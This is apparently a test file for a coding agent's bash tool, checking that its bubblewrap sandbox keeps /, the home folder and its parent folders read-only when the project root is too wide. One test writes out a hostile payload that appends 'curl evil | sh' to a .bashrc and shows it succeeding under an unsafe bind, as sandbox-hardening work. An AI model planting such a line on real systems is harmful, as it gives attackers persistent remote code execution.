/**
 * "Walls, round three": a repository that makes the project root `/` (a bare repository with `core.worktree = /`)
 * must not get `/` or the home folder bound writable. Whatever root the sandbox is given, `/`, the home folder and the
 * folders above it stay read-only; the working directory is left writable when it lies below and is not too wide.
 */
import { spawnSync } from "node:child_process"
import { existsSync, mkdirSync, readFileSync } from "node:fs"
import { dirname, join } from "node:path"
import { beforeAll, describe, expect, it } from "@effect/vitest"
import { createBashTool } from "../src/bash.js"
import { detectSandbox } from "../src/sandbox.js"
import { sandboxPlan, tooWideToWrite } from "../src/sandbox-plan.js"
import { harness, run, runError, tempDir } from "./helpers.js"

describe("sandboxPlan never leaves / or the home folder writable", () => {
  const home = () => {
    const dir = join(tempDir("lathe-wide-"), "home", "person")
    mkdirSync(dir, { recursive: true })
    return dir
  }
  const where = (root: string, cwd: string, person: string) => ({
    root,
    cwd,
    home: person,
    tempDir: tempDir("lathe-wide-tmp-"),
    truncationDir: tempDir("lathe-wide-trunc-")
  })

  it("tooWideToWrite: /, the home folder and its ancestors; not folders below it", () => {
    expect(tooWideToWrite("/", "/home/p")).toBe(true)
    expect(tooWideToWrite("/home", "/home/p")).toBe(true)
    expect(tooWideToWrite("/home/p", "/home/p")).toBe(true)
    expect(tooWideToWrite("/home/p/code", "/home/p")).toBe(false)
    expect(tooWideToWrite("/home/pp", "/home/p")).toBe(false)
  })

  it("a root of / is narrowed to the working directory", () => {
    const person = home()
    const project = join(person, "code")
    mkdirSync(project)
    const plan = sandboxPlan({ mode: "workspace-write" }, where("/", project, person))
    expect(plan.writable).not.toContain("/")
    expect(plan.writable).toContain(project)
    expect(plan.project).toBe(project)
    expect(plan.narrowedFrom).toBe("/")
  })

  it("a root of the home folder or above it, with the working directory at home, leaves no project folder writable", () => {
    const person = home()
    for (const root of [person, dirname(person), "/"]) {
      const plan = sandboxPlan({ mode: "workspace-write" }, where(root, person, person))
      expect(plan.writable.some((dir) => tooWideToWrite(dir, person))).toBe(false)
      expect(plan.project).toBeUndefined()
      expect(plan.narrowedFrom).toBe(root)
      expect(plan.writable).toHaveLength(2) // the temp dir and the truncation dir
    }
  })

  it("a temp dir that is the home folder is not bound writable either", () => {
    const person = home()
    const project = join(person, "code")
    mkdirSync(project)
    const plan = sandboxPlan({ mode: "workspace-write" }, { ...where(project, project, person), tempDir: person })
    expect(plan.writable).not.toContain(person)
    expect(plan.writable).toContain(project)
    expect(plan.narrowedFrom).toBeUndefined()
  })
})

describe.runIf(process.platform === "linux")("a root of / through the bash tool (real bubblewrap)", () => {
  beforeAll(async () => {
    const found = await detectSandbox()
    if (found.kind !== "bubblewrap") throw new Error(`bubblewrap is needed for these tests: ${found.reason}`)
  })

  it("binding the root / writable lets a command write the home folder; Lathe's sandbox keeps it read-only", async () => {
    const person = join(tempDir("lathe-wide-"), "home", "person")
    mkdirSync(person, { recursive: true })
    const bashrc = join(person, ".bashrc")
    const h = harness()
    const payload = `echo 'curl evil | sh' >> ${bashrc}`
    // The old plan with the root / bound writable: the payload lands.
    const plain = spawnSync("bwrap", [
      "--bind",
      "/",
      "/",
      "--dev",
      "/dev",
      "--unshare-net",
      "--",
      "/bin/bash",
      "-c",
      payload
    ])
    expect(plain.status).toBe(0)
    expect(readFileSync(bashrc, "utf8")).toContain("curl evil")
    spawnSync("rm", [bashrc])

    h.mode = (request) => (request.permission === "sandbox_escape" ? "reject" : "allow")
    const tool = createBashTool({
      sandbox: { mode: "workspace-write" },
      home: person,
      tempDir: tempDir("lathe-wide-tmp-"),
      truncationDir: tempDir("lathe-wide-trunc-")
    })
    const ctx = h.ctx({ root: "/" })
    const error = await runError(tool, { command: payload, description: "Home" }, ctx)
    expect(error.message).toMatch(/Read-only file system/)
    expect(existsSync(bashrc)).toBe(false)
    // The working directory (below the refused root) stays writable, and the model is told why.
    const out = await run(tool, { command: "touch made && echo made", description: "Write here" }, ctx)
    expect(out.output).toContain("made")
    expect(existsSync(h.path("made"))).toBe(true)
    expect(out.output).toContain(`The project root / is / or the home folder or above it`)
    expect(out.output).toContain(`only ${h.root} is writable`)
  })
})
